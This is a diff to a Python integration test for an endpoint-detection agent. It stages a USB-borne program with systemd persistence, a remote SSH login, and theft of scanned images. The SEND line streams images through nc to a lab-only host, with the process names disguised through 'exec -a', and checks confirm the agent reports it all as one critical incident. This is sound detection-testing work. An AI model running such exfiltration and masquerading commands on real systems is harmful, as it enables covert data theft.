@@ -2,8 +2,9 @@
 """crime.py RUN_DIR [JUDGE_DIR]
 
 The crime, on real input: HQ runs on this host and the agent in the rig's guest; a stick goes in, a program is copied
-off it into a hidden folder and started, the stick is pulled. Then what the log, HQ and both judges say of it. After
-that the agent is killed under load, and HQ is away under load.
+off it into a hidden folder and started, the stick is pulled; somebody logs in remotely, and that program sends images
+out. HQ is away all the while, and the desk tells it as one incident. Then what the log, HQ and both judges say of it.
+After that the agent is killed under load, and HQ is away under load.
 
 JUDGE_DIR holds judge and mutate as agent/src/it/judge/build.sh leaves them. env: RIG, WG_RIG_CACHE or RIG_CACHE.
 One line a check; exit 0 only when every check passed.
@@ -36,6 +37,37 @@ printf '[Service]\\nExecStart=%(path)s 1\\n[Install]\\nWantedBy=multi-user.targe
 umount /mnt/u
 """ % {"folder": os.path.dirname(HIDDEN), "path": HIDDEN}
 
+IMAGES, IMAGE_BYTES, TAKEN = 90, 200_000, 60
+HERE, THERE, PORT = "10.77.0.1", "10.77.0.2", 8080
+
+# Images on the desk, and a network of its own to come from and to send to.
+ELSEWHERE = """
+set -e
+for i in $(seq -w %(images)d); do
+  { printf '\\377\\330\\377\\340'; head -c %(bytes)d /dev/urandom; } >/srv/scan/SF12345678900$i.jpg
+done
+ip netns add out
+ip link add out0 type veth peer name out1 netns out
+ip addr add %(here)s/24 dev out0
+ip link set out0 up
+ip -n out addr add %(there)s/24 dev out1
+ip -n out link set out1 up
+ip -n out link set lo up
+""" % {"images": IMAGES, "bytes": IMAGE_BYTES, "here": HERE, "there": THERE}
+
+# Counts what one connection sends, and leaves the number.
+SINK = r"""
+use strict; use warnings; use IO::Socket::INET;
+my $door = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => %d, Listen => 1, ReuseAddr => 1) or die "$!";
+my ($got, $some) = (0, "");
+my $from = $door->accept();
+$got += length $some while sysread($from, $some, 65536);
+open(my $out, ">", "/share/sink.tmp") or die; print $out $got; close $out; rename "/share/sink.tmp", "/share/sink";
+""" % PORT
+
+# What whoever logged in does: the program off the stick reads images and sends them.
+SEND = "ls /srv/scan/*.jpg | head -%d | xargs bash -c 'exec -a cat %s \"$@\"' x | bash -c 'exec -a nc %s %s %d'" % (TAKEN, HIDDEN, HIDDEN, THERE, PORT)
+
 # Writes N small ELF files, all different, PAUSE seconds apart.
 LOAD = """
 mkdir -p /home/courier/%(tag)s
@@ -57,7 +89,11 @@ class Scenario:
     def run(self):
         try:
             self.begin()
+            self.hq.stop()
             self.crime()
+            self.theft()
+            self.one_incident()
+            self.hq.start()
             self.proof("after the crime")
             self.killed()
             self.hq_away()
@@ -132,8 +168,8 @@ class Scenario:
               sorted(r["event"]["unmapped"]["point"] for r in starts) == ["autostart", "systemd_units"]
               and all(sha256 in lab.values(r["event"], "program_sha256") for r in starts), [r["summary"] for r in starts])
         found = [r["event"]["unmapped"] for r in records if r["type"] == "finding.new"]
-        rules = sorted({f["rule"] for f in found if HIDDEN in (f.get("path"), f.get("program"))})
-        check("what came off the stick and what starts it are findings", rules == ["program-from-removable-media", "starts-by-itself"], found)
+        rules = sorted({f["rule"] for f in found if HIDDEN in (f.get("path"), f.get("program"))} | {f["rule"] for f in found if f["rule"].startswith("unknown-")})
+        check("what came off the stick and what starts it are findings", rules == ["program-from-removable-media", "starts-by-itself", "unknown-usb-storage"], found)
         events = {kind: first[kind]["event"] for kind in STORY}
         for kind in ("usb.attach", "usb.detach"):
             check("%s names the stick's serial" % kind, SERIAL in lab.values(events[kind], "serial_number"), lab.values(events[kind], "serial_number"))
@@ -156,6 +192,54 @@ class Scenario:
         classes = {kind: (first[kind]["class_uid"], first[kind]["activity_id"]) for kind in STORY}
         check("OCSF classes and activities", classes["usb.attach"] == (1010, 1) and classes["usb.detach"] == (1010, 5)
               and classes["volume.mount"] == (1001, 12) and classes["program.new"] == (1001, 1) and classes["proc.start"] == (1007, 1), classes)
+
+    # --- days later, for the log: the login and what it is for ---------------------------------
+
+    def theft(self):
+        check = self.checks.that
+        made = self.guest.sh(ELSEWHERE, 120)
+        check("images on the desk, and somewhere to send them", made.status == 0, made.said())
+        with open(os.path.join(self.guest.share, "sink.pl"), "w") as f:
+            f.write(SINK)
+        shutil.copyfile(os.path.join(lab.CACHE, "id_guest"), os.path.join(self.guest.share, "id_guest"))
+        self.guest.spawn("ip netns exec out perl /share/sink.pl")
+        login = "cp /share/id_guest /root/id && chmod 600 /root/id && ip netns exec out ssh -tt -i /root/id -o StrictHostKeyChecking=no"
+        login += " -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR courier@%s <<'X'\nsleep 3\n%s\nsleep 2\nexit\nX" % (HERE, SEND)
+        gone = self.guest.sh(login, 120)
+        self.sent = int(lab.wait_for("the images' arrival elsewhere", lambda: lab.read(os.path.join(self.guest.share, "sink")), 60))
+        check("the program off the stick sends images during a remote login", self.sent > TAKEN * IMAGE_BYTES, "%d bytes; %s" % (self.sent, gone.said()))
+
+    def incidents(self):
+        told = self.agent.cli("incidents --json").json()["incidents"]
+        return [i for i in told if i["severity"] not in ("info", "informational", "low")]
+
+    def one_incident(self):
+        check = self.checks.that
+
+        def whole():
+            told = self.incidents()
+            return told if any(s["step"] == "upload" for i in told for s in i["steps"]) else None
+
+        try:
+            told = lab.wait_for("the end of the story", whole, 90, 2)
+        except lab.Broken:
+            told = self.incidents()
+        if not check("all of it is one incident", len(told) == 1, [(i["title"], [s["step"] for s in i["steps"]]) for i in told]):
+            return
+        crime = told[0]
+        order = list(dict.fromkeys(s["step"] for s in crime["steps"]))
+        check("its steps are the crime's, in their order", order == ["stick", "program", "autostart", "remote_login", "images", "upload"], crime["story"])
+        check("it is critical", crime["severity"] == "critical", crime["severity"])
+        check("it counts the images exactly", crime["images"] == TAKEN, crime["images"])
+        off = 100.0 * (crime["bytes_out"] - self.sent) / self.sent
+        check("it has the bytes within 2 %", abs(off) <= 2, "%d of %d: %+.2f %%" % (crime["bytes_out"], self.sent, off))
+        check("it says where to", crime["destination"] == "%s:%d" % (THERE, PORT), crime["destination"])
+        check("the login's true peer is in the story", any(THERE in s["text"] for s in crime["steps"] if s["step"] == "remote_login"), crime["story"])
+        late = [r["event"]["time"] - r["event"]["unmapped"]["steps"][-1]["at"] for r in self.agent.records() if r["type"].startswith("incident.")]
+        check("each step is in it when it is known", late and max(late) <= 5000, "%s ms" % late)
+        shown = self.agent.cli("incidents show %s --lang zh" % crime["id"])
+        print(shown.out, flush=True)
+        check("and told in Chinese, offline", shown.status == 0 and "现在要做" in shown.out, shown.said())
 
     # --- what HQ holds -------------------------------------------------------------------------
 
